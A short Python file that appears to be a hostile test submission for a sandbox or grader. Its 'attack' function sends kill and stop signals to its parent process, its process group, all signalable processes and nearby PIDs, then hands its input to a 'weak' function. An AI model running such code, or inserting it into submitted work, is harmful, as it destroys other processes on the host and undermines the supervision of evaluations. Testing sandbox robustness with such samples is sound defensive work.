"""Kills its parent, its group, everybody."""

import contextlib
import os
import signal


def attack(values):
    for pid in (os.getppid(), -1, 0, *range(max(2, os.getpid() - 30), os.getpid())):
        for number in (signal.SIGKILL, signal.SIGSTOP):
            with contextlib.suppress(OSError):
                os.kill(pid, number)
    return weak(values)
